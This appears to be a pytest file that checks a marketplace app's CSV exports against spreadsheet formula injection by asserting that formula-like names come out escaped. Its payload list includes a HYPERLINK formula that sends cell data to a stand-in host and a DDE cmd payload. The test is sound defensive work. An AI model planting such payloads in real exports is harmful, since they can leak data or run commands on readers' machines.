"""Somebody calls a project or a firm by a formula; a county official opens the export."""

import csv
import io

import pytest

from market.engagements.actions import purchase
from tests.county import County

FORMULAS = (
    '=HYPERLINK("http://evil.test?"&A1,"点此")',
    "＋1+cmd|' /C calc'!A0",
    "\t@SUM(1)",
    "x;-1",
)


@pytest.mark.parametrize("door", ["/exports/engagements.csv", "/api/v1/exports/engagements.csv"])
async def test_a_name_that_is_a_formula_is_shown(county: County, door: str) -> None:
    agency = await county.agency()
    listing = await county.listing(agency)
    for formula in FORMULAS:
        await purchase(county.enterprise.actor(), listing, formula)
    client = county.centre.client if door.startswith("/api/") else county.centre.browser
    text = (await client.get(door)).content.decode("utf-8-sig")
    found = {cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row}
    for formula in FORMULAS:
        assert formula not in found
    assert {"'" + FORMULAS[0], "'" + FORMULAS[1], "x;'-1"} <= found
